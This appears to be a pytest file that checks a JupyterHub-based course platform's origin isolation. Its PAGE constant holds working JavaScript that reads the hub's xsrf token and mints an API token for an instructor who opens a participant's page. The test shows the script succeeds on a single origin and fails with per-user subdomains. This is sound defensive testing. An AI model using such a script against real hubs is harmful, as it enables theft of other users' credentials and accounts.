"""attack-15, finding 1: a participant's server serves a page of his own, without login; an instructor opens it.
On one origin its script reads the hub's xsrf token from ``/hub/token`` and makes a hub API token of hers. With
``hub.subdomain_host`` his server is at ``<name>.localhost`` and the hub at ``localhost``: the same script gets
nothing. Real hub (unix-users, as root), real proxy, the participant's real Unix account, Debian's chromium."""

from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import sys
import textwrap
import time

import httpx
import pytest

from hubharness import PASSWORD, TEST_PREFIX, LoopbackSubdomains, start_hub

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.root,
              pytest.mark.skipif(os.geteuid() != 0, reason="needs root: the attacker is a participant's Unix account")]
ATTACKER, VISITOR = "qa-benno", "qa-inga"
ROSTER = f"""username,full_name,email,role,team,manager
{VISITOR},Inga Test,inga@test.example,instructor,,
{ATTACKER},Benno Test,benno@test.example,participant,claims,
"""
NOTE = "stolen-by-benno"
# Two tries: the path the attack report used (same origin as the page), then the hub's origin named outright
# (a cross-origin read of /hub/token, and a blind POST the browser may send without reading the answer).
PAGE = """<!doctype html><html><head><title>notes</title></head><body><p>Benno's notes</p><script>
(async () => {
  const outcome = [];
  const body = JSON.stringify({note: "NOTE", expires_in: 600});
  try {
    const page = await fetch("/hub/token", {credentials: "include"});
    const text = await page.text();
    const m = text.match(/xsrf_token:\\s*"([^"]+)"/);
    const made = await fetch("/hub/api/users/VISITOR/tokens", {method: "POST", credentials: "include", body,
      headers: {"Content-Type": "application/json", "X-XSRFToken": m ? m[1] : ""}});
    outcome.push("same:" + made.status);
  } catch (e) { outcome.push("same:error"); }
  try {
    const page = await fetch("HUB/hub/token", {credentials: "include"});
    outcome.push("hub-read:" + page.status);
  } catch (e) { outcome.push("hub-read:blocked"); }
  try {
    await fetch("HUB/hub/api/users/VISITOR/tokens", {method: "POST", mode: "no-cors", credentials: "include",
      body, headers: {"Content-Type": "text/plain"}});
    outcome.push("hub-post:sent");
  } catch (e) { outcome.push("hub-post:error"); }
  document.body.dataset.outcome = outcome.join(" ");
  document.title = "done " + outcome.join(" ");
})();
</script></body></html>
"""


def as_participant(user: str, code: str, timeout: float = 60) -> subprocess.CompletedProcess:
    """Run Python ``code`` as the participant's Unix account (what his own server's kernel is)."""
    account = pwd.getpwnam(f"{TEST_PREFIX}{user}")

    def drop():
        os.setgroups([])
        os.setgid(account.pw_gid)
        os.setuid(account.pw_uid)

    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], preexec_fn=drop, capture_output=True,
                          text=True, timeout=timeout, cwd="/", env={"PATH": "/usr/bin:/bin", "HOME": account.pw_dir})


def _token(hub, user: str, note: str) -> str:
    """A hub token of ``user``: log in at the hub's own origin (browser_url) through the login form, as the token
    page then does."""
    import re

    with httpx.Client(base_url=hub.browser_url, transport=LoopbackSubdomains(), timeout=60) as client:
        form = client.get("/hub/login")
        xsrf = re.search(r'name="_xsrf" value="([^"]+)"', form.text).group(1)
        r = client.post("/hub/login?next=", data={"username": user, "password": PASSWORD, "_xsrf": xsrf})
        assert r.status_code == 302, r.text[:300]
        jar = {c.name: c for c in client.cookies.jar}
        if hub.browser_url != hub.url:  # http.cookiejar never sends a Domain=localhost cookie to localhost (it
            # calls that host localhost.local); the hub's xsrf token is bound to this session cookie
            session = jar["jupyterhub-session-id"]
            client.cookies.set(session.name, session.value, domain=jar["_xsrf"].domain, path="/")
        r = client.post(f"/hub/api/users/{user}/tokens", json={"note": note, "expires_in": 900},
                        headers={"X-XSRFToken": jar["_xsrf"].value})
        assert r.status_code == 201, (r.text, [(c.name, c.domain, c.path) for c in client.cookies.jar])
        return r.json()["token"]


def _server_ready(hub, token: str, user: str, want: bool, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        model = hub.api_get(f"/users/{user}", token).json()
        server = model.get("servers", {}).get("")
        if (bool(server and server.get("ready")) if want else not server):
            return
        time.sleep(1)
    raise AssertionError(f"{user}'s server {'not ready' if want else 'still there'} after {timeout}s:\n"
                         f"{hub.tail_log(80)}")


def _restart_with_his_page(hub, token: str) -> None:
    """Benno, as his Unix account, serves ~/www without login, then restarts his own server with his own token."""
    home = pwd.getpwnam(f"{TEST_PREFIX}{ATTACKER}").pw_dir
    page = PAGE.replace("NOTE", NOTE).replace("VISITOR", VISITOR).replace("HUB", hub.browser_url)
    out = as_participant(ATTACKER, f"""
        import os
        os.makedirs({home!r} + "/www", exist_ok=True)
        os.makedirs({home!r} + "/.jupyter", exist_ok=True)
        open({home!r} + "/www/notes.html", "w").write({page!r})
        open({home!r} + "/.jupyter/jupyter_server_config.py", "w").write(
            "c = get_config()\\nc.ServerApp.extra_static_paths = [{home + '/www'!r}]\\n")
        print("written")
    """)
    assert out.stdout.strip() == "written", out.stderr
    headers = {"Authorization": f"token {token}"}
    assert httpx.delete(f"{hub.api}/users/{ATTACKER}/server", headers=headers, timeout=60).is_success  # stopped: asserted next
    _server_ready(hub, token, ATTACKER, want=False)
    assert httpx.post(f"{hub.api}/users/{ATTACKER}/server", headers=headers, timeout=60).is_success  # started: asserted next
    _server_ready(hub, token, ATTACKER, want=True)


def _visit(hub, page_url: str) -> str:
    """Inga logs in at the hub in chromium, then opens Benno's link; what his script wrote into the page."""
    from playwright.sync_api import sync_playwright

    from browser import CHROMIUM_ARGS, chromium_path, screenshot

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium_path(), headless=True, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.goto(f"{hub.browser_url}/hub/login?next=%2Fhub%2Fhome")
            page.fill("#username_input", VISITOR)
            page.fill("#password_input", PASSWORD)
            page.click("#login_submit")
            page.wait_for_url("**/hub/home", timeout=60_000)
            assert VISITOR in page.inner_text("body")  # she is logged in at the hub
            page.goto(page_url)
            page.wait_for_function("document.title.startsWith('done')", timeout=60_000)
            screenshot(page, f"attack-same-origin-{'own' if hub.browser_url != hub.url else 'one'}-origin")
            return page.evaluate("document.body.dataset.outcome")
        finally:
            browser.close()


@pytest.mark.parametrize("own_origins", [True, False], ids=["subdomain-host", "one-origin-known-vulnerable"])
def test_a_page_benno_serves_makes_no_token_for_the_instructor_who_opens_it(own_origins):
    """Benno's server serves a page that tries to make a hub token for Inga (instructor) when she opens it: with
    hub.subdomain_host, is none made? And on one origin — the known-vulnerable configuration, asserted so this test
    proves it can fail — is hers made?"""
    hub = start_hub(ROSTER, subdomains=own_origins)
    try:
        benno = _token(hub, ATTACKER, "benno's own")
        inga = _token(hub, VISITOR, "the test's look at her tokens")
        headers = {"Authorization": f"token {benno}"}
        assert httpx.post(f"{hub.api}/users/{ATTACKER}/server", headers=headers, timeout=60).is_success  # started: asserted next
        _server_ready(hub, benno, ATTACKER, want=True)  # his Unix account exists from here on
        _restart_with_his_page(hub, benno)
        origin = f"http://{ATTACKER}.localhost:{hub.url.rsplit(':', 1)[1]}" if own_origins else hub.url
        page_url = f"{origin}/user/{ATTACKER}/static/notes.html"
        with httpx.Client(transport=LoopbackSubdomains(), timeout=30) as anonymous:  # no cookie, no token
            served = anonymous.get(page_url)
        assert served.status_code == 200 and "text/html" in served.headers["content-type"], served.status_code
        assert NOTE in served.text  # his page is there, on his own origin or on the hub's

        outcome = _visit(hub, page_url)

        stolen = [t for t in hub.api_get(f"/users/{VISITOR}/tokens", inga).json()["api_tokens"] if t["note"] == NOTE]
        if own_origins:
            assert stolen == [], hub.tail_log(40)
            assert "same:201" not in outcome and "hub-read:blocked" in outcome, outcome
        else:
            assert len(stolen) == 1, (outcome, hub.tail_log(40))
            assert "same:201" in outcome, outcome
    finally:
        hub.stop()
        from shiplab.hub.unix import remove_unix_user

        for name in (ATTACKER, VISITOR):
            remove_unix_user(name, prefix=TEST_PREFIX)
        shutil.rmtree(hub.state, ignore_errors=True)


FLOW_ROSTER = """username,full_name,email,role,team,manager
qa-olga,Olga Test,olga@test.example,participant,claims,
qa-pia,Pia Test,pia@test.example,instructor,,
"""


def test_with_own_origins_the_participant_submits_and_the_instructor_opens_board_and_tracker():
    """With hub.subdomain_host: does Olga's Lab open at her own origin, fetch and submit the demo lab from the
    Assignments tab and see it graded; and do the progress board and the tracker open for Pia at theirs?"""
    from playwright.sync_api import sync_playwright

    from browser import CHROMIUM_ARGS, chromium_path, log_in, screenshot
    from shiplab.web.origins import service_url

    hub = start_hub(FLOW_ROSTER, subdomains=True, extra_settings={
        "grading": {"enabled": True, "poll": 0.5}, "tracker": {"enabled": True}, "progress": {"enabled": True}})
    settings = {"hub.subdomain_host": hub.browser_url, "hub.bind_url": hub.url}
    port = hub.url.rsplit(":", 1)[1]
    try:
        out = hub.cli("course", "release", "demo")
        assert "release demo: 1 ok" in out.stdout, out.stdout + out.stderr
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium_path(), headless=True, args=CHROMIUM_ARGS)
            try:
                page = browser.new_page(viewport={"width": 1280, "height": 800})
                log_in(page, hub.browser_url, "qa-olga", PASSWORD)
                assert page.url.startswith(f"http://qa-olga.localhost:{port}/user/qa-olga/"), page.url
                lab = page.locator("#shiplab-assignments .shiplab-lab[data-lab=demo]")
                lab.wait_for(timeout=120_000)
                if lab.locator("button", has_text="Fetch").count():
                    lab.locator("button", has_text="Fetch").click()
                lab.locator("button[data-action=submit]").wait_for(timeout=60_000)
                lab.locator("button[data-action=submit]").click()
                lab.locator(".shiplab-state[data-state=graded]").wait_for(timeout=240_000)
                screenshot(page, "own-origins-participant")

                pia = browser.new_page(viewport={"width": 1280, "height": 800})
                pia.goto(f"{hub.browser_url}/hub/login?next=%2Fhub%2Fhome")
                pia.fill("#username_input", "qa-pia")
                pia.fill("#password_input", PASSWORD)
                pia.click("#login_submit")
                pia.wait_for_url("**/hub/home", timeout=60_000)
                menu = [a.get_attribute("href") for a in pia.locator("a.dropdown-item").all()]
                assert service_url(settings, "progress") in menu, menu  # with the port (hub_config/templates)
                for name, text in (("progress", "qa-olga"), ("tracker", "")):
                    url = service_url(settings, name)
                    assert url.startswith(f"http://{name}--service.localhost:{port}/services/{name}/")
                    hub.wait_until_answers("/hub/api", "the hub")
                    answer = pia.goto(url)
                    assert answer.status == 200, (name, answer.status, pia.url)
                    assert pia.url.startswith(url), pia.url  # not sent to a login page
                    if text:
                        pia.locator(f"text={text}").first.wait_for(timeout=60_000)
                    screenshot(pia, f"own-origins-{name}")
            finally:
                browser.close()
    finally:
        hub.stop()
        from shiplab.hub.unix import remove_unix_user

        for name in ("qa-olga", "qa-pia"):
            remove_unix_user(name, prefix=TEST_PREFIX)
        shutil.rmtree(hub.state, ignore_errors=True)


def _login_form_post(client: httpx.Client, origin: str, user: str) -> httpx.Response:
    import re

    form = client.get(f"{origin}/hub/login")
    assert form.status_code == 200, form.status_code  # JupyterHub answers every host name: the form is shown
    xsrf = re.search(r'name="_xsrf" value="([^"]+)"', form.text).group(1)
    return client.post(f"{origin}/hub/login?next=", data={"username": user, "password": PASSWORD, "_xsrf": xsrf})


def test_the_instructor_cannot_log_in_at_a_participants_origin():
    """attack-15 residual: the hub's login form also answers at ``qa-benno.localhost/hub/login``. If Inga logs in
    there (a link Benno sends her), is the login refused with the hub's own address, and no hub login cookie left
    on his origin? And at the hub's own address, does the same login succeed (so the test can fail)?"""
    hub = start_hub(ROSTER, subdomains=True)
    try:
        port = hub.url.rsplit(":", 1)[1]
        with httpx.Client(transport=LoopbackSubdomains(), timeout=60) as client:
            refused = _login_form_post(client, f"http://{ATTACKER}.localhost:{port}", VISITOR)
            assert refused.status_code == 403, (refused.status_code, refused.text[:300])
            assert f"{hub.browser_url}/hub/login" in refused.text
            assert "jupyterhub-hub-login" not in refused.headers.get_list("set-cookie").__str__()
            assert not [c for c in client.cookies.jar if c.name == "jupyterhub-hub-login"]
            # the same on a service's origin
            service = _login_form_post(client, f"http://tracker--service.localhost:{port}", VISITOR)
            assert service.status_code == 403, service.status_code
        with httpx.Client(transport=LoopbackSubdomains(), timeout=60) as client:
            allowed = _login_form_post(client, hub.browser_url, VISITOR)
            assert allowed.status_code == 302, (allowed.status_code, allowed.text[:300])
            assert [c for c in client.cookies.jar if c.name == "jupyterhub-hub-login"]
        assert "Login for qa-inga refused on qa-benno.localhost" in hub.tail_log(200)
    finally:
        hub.stop()
        shutil.rmtree(hub.state, ignore_errors=True)
